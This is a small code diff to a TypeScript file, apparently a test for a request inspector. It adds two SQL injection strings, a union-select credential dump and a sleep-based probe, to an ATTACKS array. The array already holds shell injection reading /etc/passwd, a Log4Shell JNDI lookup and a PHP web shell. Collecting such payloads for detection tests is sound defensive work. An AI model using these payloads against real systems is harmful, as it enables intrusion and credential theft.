@@ -13,6 +13,8 @@ const ATTACKS: readonly string[] = [
   '; cat /etc/passwd',
   '${jndi:ldap://192.0.2.7/a}',
   '<?php system($_GET["c"]); ?>',
+  '-1 union all select null,login,pass from users',
+  '1 and sleep(5)',
 ];
 
 function post(type: string, body: string): InspectedRequest {
